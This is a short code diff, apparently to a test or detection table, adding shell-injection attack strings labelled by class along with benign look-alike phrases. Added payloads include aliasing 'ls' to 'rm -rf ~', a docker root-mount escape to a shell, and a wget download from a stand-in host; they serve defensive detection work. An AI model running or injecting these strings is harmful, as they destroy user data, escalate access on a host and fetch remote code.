@@ -72,8 +72,11 @@ const CLASSES: Record<string, ClassTable> = {
       ["; cmd=$'\\151\\144'; $cmd", "rce.ansi-c-quoting"],
       ["; who$()ami", "rce.command-injection"],
       ["; $0 -c id", "rce.shell-invocation"],
+      ["; alias ls='rm -rf ~'", "rce.alias-definition"],
+      ["&& docker run -v /:/mnt alpine chroot /mnt sh", "rce.command-injection"],
+      ["| stdbuf -o0 wget http://x/a -O /tmp/a", "rce.command-injection"],
     ],
-    benign: ["Tom & Jerry; time for tea", "see you at 5 | bring snacks", "cost: $a and $b", "alias: Bobby"],
+    benign: ["Tom & Jerry; time for tea", "see you at 5 | bring snacks", "cost: $a and $b", "alias: Bobby", "We use Python; docker for deploys", "My alias = Bob"],
   },
   "JavaScript / Ruby / templates": {
     attacks: [
